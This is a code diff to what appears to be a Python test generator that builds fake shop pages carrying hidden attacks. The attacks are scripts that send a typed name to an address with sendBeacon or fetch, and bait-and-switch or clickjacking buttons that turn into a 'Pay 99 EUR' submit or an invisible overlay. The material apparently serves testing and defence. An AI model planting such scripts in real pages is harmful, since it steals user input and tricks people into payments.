@@ -85,7 +85,9 @@ def _scripts() -> list[Attack]:
     for name, thing in lies.items():
         for how, address in where.items():
             form = "navigator.sendBeacon('%s', n.value)" if name == "a beacon" else "fetch('%s', {method: 'POST', body: n.value})"
-            page = f"<h1>Shop</h1><label>Your name <input id=n></label>{thing % (form % address)}"
+            # With nothing typed there is nothing to carry off.
+            done = f"n.value && {form % address}"
+            page = f"<h1>Shop</h1><label>Your name <input id=n></label>{thing % done}"
             say = "type ‹Augusta› ‹Your name›; click ‹#button›"
             made = Attack(f"lie: {name}{how}", "lying script", page, say, own_lie=how == " without a word")
             found.append(made)
@@ -169,7 +171,8 @@ def _changes() -> list[Attack]:
     next_ = '<form id=f method=post action="@own@/harm/swap"><button id=b type=button>Show all</button></form>'
     changes = {
         "relabelled after a while": "setTimeout(() => { b.type = 'submit'; b.textContent = 'Pay 99 EUR' }, 600 * Math.random())",
-        "relabelled again and again": "setInterval(() => { b.type = b.type === 'submit' ? 'button' : 'submit' }, 37)",
+        "relabelled again and again": "setInterval(() => { const pays = b.type === 'button'; b.type = pays ? 'submit' : 'button';"
+        " b.textContent = pays ? 'Pay 99 EUR' : 'Show all' }, 37)",
         "replaced after a while": "setTimeout(() => { f.innerHTML = '<button>Pay 99 EUR</button>' }, 600 * Math.random())",
         "covered after a while": "setTimeout(() => { f.insertAdjacentHTML('beforeend', '<button style=\"position:fixed;"
         "inset:0;opacity:.01\">Pay 99 EUR</button>') }, 600 * Math.random())",
